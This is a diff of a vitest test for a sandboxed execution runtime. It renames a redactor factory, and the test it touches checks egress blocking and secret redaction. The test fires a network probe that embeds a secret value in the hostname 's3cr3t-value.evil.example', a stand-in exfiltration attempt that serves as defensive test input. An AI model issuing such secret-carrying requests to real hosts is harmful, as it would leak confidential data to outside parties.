@@ -3,7 +3,7 @@ import { Socket } from 'node:net';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import type { Diagnostic } from '../../../../src/core/diagnostic.ts';
-import { createRedactor } from '../../../../src/core/redaction/redactor.ts';
+import { createStoreRedactor } from '../../../../src/core/redaction/redactor.ts';
 import type { Execution, Runtime, StackEndpoint } from '../../../../src/executor/ports.ts';
 import {
   createLocalRuntime,
@@ -365,7 +365,7 @@ except OSError as error:
     const invocation = invocationOf({
       steps: [script(probe(['s3cr3t-value.evil.example', 80]))],
       stage: { network: { egress: ['good.example'] } },
-      over: { redactor: createRedactor(['s3cr3t-value']) },
+      over: { redactor: createStoreRedactor(['s3cr3t-value']) },
     });
     const execution = await runtime().execute(invocation);
     expect(execution).toMatchObject({
